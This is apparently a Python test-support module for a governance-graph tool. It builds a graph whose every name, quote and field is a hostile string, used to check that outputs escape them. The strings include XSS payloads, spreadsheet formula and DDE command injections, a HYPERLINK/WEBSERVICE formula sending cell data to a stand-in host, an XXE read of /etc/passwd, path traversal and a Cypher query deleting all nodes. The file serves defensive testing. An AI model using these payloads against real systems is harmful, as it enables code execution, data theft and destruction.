"""Names and quotes that try to break out of every kind of output; none may run, hide, reorder or be lost.

Scripts set `window.pwned`, so that a browser test needs one look to know.
"""

from __future__ import annotations

from govgraph.graph.claims import Evidence, SourceInfo
from govgraph.graph.model import Disagreement, Entity, Graph, Proposal, Relation
from govgraph.queries.checking import Finding
from tests.support.wendshire import remark

NAMES: dict[str, str] = {
    # HTML and SVG
    "script": "<script>window.pwned=1</script>",
    "script-close": "</script><script>window.pwned=1</script>",
    "script-comment": "<!--<script>window.pwned=1</script>-->",
    "style-close": "</style><script>window.pwned=1</script>",
    "title-close": "</title><script>window.pwned=1</script>",
    "textarea-close": "</textarea><img src=x onerror=window.pwned=1>",
    "image": "<img src=x onerror=window.pwned=1>",
    "svg-onload": "<svg onload=window.pwned=1>",
    "svg-close": "</text></svg><script>window.pwned=1</script>",
    "svg-animate": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "foreign-object": "<foreignObject><iframe srcdoc='<script>top.pwned=1</script>'></foreignObject>",
    "details": "<details open ontoggle=window.pwned=1>",
    "attribute-double": '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "attribute-single": "' onfocus='window.pwned=1' autofocus tabindex='1",
    "attribute-backtick": "` onload=`window.pwned=1`",
    "javascript-url": "javascript:window.pwned=1",
    "javascript-url-split": "java\nscript:window.pwned=1",
    "data-url": "data:text/html,<script>window.pwned=1</script>",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3c;script&#x3e; &amp;",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
    "base": '<base href="https://hostile.invalid/">',
    "link": '<link rel="stylesheet" href="https://hostile.invalid/x.css">',
    "css": "}*{background:url(https://hostile.invalid/x)} @import 'https://hostile.invalid/y';",
    "comment-end": "--> --!> <!-- Board",
    "cdata-end": "]]> <![CDATA[ Board ]]>",
    "processing": '<?xml version="1.0"?><?php echo 1 ?>',
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "utf7": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    # JavaScript and JSON
    "js-string": "'; window.pwned=1; //",
    "js-template": "${window.pwned=1} `${window.pwned=1}`",
    "js-backslash": "\\'; window.pwned=1; //\\",
    "line-separators": "Brack\u2028window.pwned=1\u2029Forum",
    "prototype": "__proto__",
    "constructor": "constructor",
    # templates and format strings
    "jinja": "{{7*7}}{% raw %}{{ config.__class__ }}",
    "format": "{0.__class__} %(name)s %s %n $graph ${graph}",
    # spreadsheets
    "formula": "=1+1",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+SUM(1,1)",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-link": '=HYPERLINK("https://hostile.invalid/?"&A1,"Board")',
    "formula-webservice": '=WEBSERVICE("https://hostile.invalid/")',
    "formula-wide": "\uff1d1+1",
    "formula-array": "{=SUM(1)}",
    "dde": 'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "csv-break": 'Forum","=1+1","',
    "csv-newline": "Forum\n=1+1,second",
    "sheet-name": "A/B\\C?D*E[F]G:H 'quoted'",
    "excel-escape": "_x0041_ _x000D_ Board",
    "url-cell": "https://hostile.invalid/",
    "internal-link": "internal:'Sheet2'!A1",
    # Mermaid and DOT
    "mermaid-bracket": 'Board"];X-->Y["Z',
    "mermaid-click": 'A\nclick A call alert("1")\nclick A href "javascript:window.pwned=1"',
    "mermaid-init": '%%{init: {"securityLevel": "loose", "theme": "base"}}%%',
    "mermaid-end": "end",
    "mermaid-subgraph": "x\nend\nsubgraph y",
    "mermaid-entity": "#quot;#35;#lt;script#gt;",
    "mermaid-fence": "```\n<script>window.pwned=1</script>\n```mermaid",
    "mermaid-markdown": '"`**bold** <b>x</b>`"',
    "dot-break": 'Board"]; evil [label="x"]; a -> b; //',
    "dot-html": "<<b>Board</b><table><tr><td>x</td></tr></table>>",
    "dot-backslash": "Board\\",
    "dot-escapes": "\\N \\G \\l \\r \\n \\L",
    "dot-record": "{a|b|<port>c}",
    "dot-comment": "# Board /* x */ // y",
    "dot-keyword": "graph",
    # GraphML, Cypher, paths
    "cypher": "') MATCH (n) DETACH DELETE n //",
    "path": "../../../../etc/passwd",
    "xml-namespace": 'x" xmlns:evil="urn:evil',
    # characters
    "nul": "Nul\x00Board",
    "controls": "Bell\x07 Escape\x1b[31m Back\x08 Vertical\x0b Form\x0c Delete\x7f",
    "c1": "C1\x85 \x9b31m Board",
    "bidi": "\u202eevil\u202c \u2066Board\u2069 \u200f",
    "zero-width": "Bo\u200bard \ufeffof\u2060 Brack",
    "tags": "Board\U000e0041\U000e0042",
    "surrogate-high": "Lone \ud800 Board",
    "surrogate-low": "Lone \udfff Board",
    "nonchar": "Non \ufffe char \uffff Board",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 12,
    "emoji": "👩‍👩‍👧 Family Forum 🏳️‍🌈",
    "right-to-left": "מועצת אברטון",
    "accents": "Comité d’Économie — “Brack”",
    "long-word": "Partnership" * 60,
    "long": "Board of the Partnership of " * 60,
    "spaces": "   ",
    "newlines": "\n\n\n",
    "quotes-only": "\"'`",
    "backslashes": "\\\\\\",
    "dots": "...",
}
"""Every hostile text under a short name for the test's id."""

TEXTS: tuple[str, ...] = tuple(NAMES.values())


ID = "\"'><img src=x onerror=window.pwned=1>]]>--\\"
"""What every id of the hostile graph ends with: a graph that somebody hands over may name its entities so."""


def hostile_graph(texts: tuple[str, ...] = TEXTS) -> Graph:
    """A graph that says each text everywhere: as names, aliases, roles, quotes, facts, parts of a score, files and publishers."""
    documents = tuple(SourceInfo(f"{n:064x}", text, title=text, date="2024-01-02", publisher=text) for n, text in enumerate(texts))
    entities, relations, proposals, disagreements = [_council(documents[0])], [], [], []
    for n, text in enumerate(texts):
        said = (Evidence(documents[n].sha256, text, text, 0, len(text), anchor=text),)
        entities += _named(n, text, said)
        relations += _joined(n, text, said)
        proposals.append(Proposal(f"b{n}{ID}", f"w{n}{ID}", 0.5, {text: 0.5}))
        disagreements.append(Disagreement(f"b{n}{ID}", text, ((text, said[0]), ("other", said[0]))))
    return Graph(
        documents,
        tuple(sorted(entities, key=lambda one: one.id)),
        tuple(sorted(relations, key=lambda one: one.id)),
        tuple(sorted(proposals, key=lambda one: (one.a, one.b))),
        tuple(disagreements),
        texts,
    )


def hostile_findings(texts: tuple[str, ...] = TEXTS) -> list[Finding]:
    """A finding of each level that says nothing but the text."""
    levels = ("act", "ask", "note")
    return [
        remark(f"GG001-{n}", "GG001", levels[n % 3], text, f"b{n}{ID}", text, text, text, text, text,
               [{"quote": text, "document": text, "date": text}])
        for n, text in enumerate(texts)
    ]  # fmt: skip


def _council(document: SourceInfo) -> Entity:
    said = (Evidence(document.sha256, document.file, "the council", 0, 11),)
    return Entity("council", "organisation", "Wendshire County Council", subtype="county council", accountable=True, evidence=said)


def _named(n: int, text: str, said: tuple[Evidence, ...]) -> list[Entity]:
    facts: dict[str, str | bool] = {"meets": text, "purpose": text, "website": text, "note": text, "ended": text}
    return [
        Entity(f"b{n}{ID}", "body", text, (text, f"{text} again"), text, "active", facts, evidence=said),
        Entity(f"w{n}{ID}", "project", f"{text} project", (), text, "proposed", {}, evidence=said),
        Entity(f"p{n}{ID}", "person", text, (), None, "active", {}, evidence=said),
        Entity(f"o{n}{ID}", "place", text, (), text, "active", {}, evidence=said),
        Entity(f"s{n}{ID}", "plan", text, (), None, "active", {}, evidence=said),
    ]


def _joined(n: int, text: str, said: tuple[Evidence, ...]) -> list[Relation]:
    ends = {
        "REPORTS_TO": (f"b{n}{ID}", "council"),
        "OVERSEES": (f"b{n}{ID}", f"w{n}{ID}"),
        "CHAIRS": (f"p{n}{ID}", f"b{n}{ID}"),
        "MEMBER_OF": (f"p{n}{ID}", f"b{max(0, n - 1)}{ID}"),
        "COVERS": (f"b{n}{ID}", f"o{n}{ID}"),
        "PRODUCES": (f"b{n}{ID}", f"s{n}{ID}"),
    }
    return [
        Relation(f"{type.lower()}:{a}:{b}", type, a, b, said, text, text, text, method=text, claims=(text,), dates=("2024-01-02",))
        for type, (a, b) in ends.items()
    ]
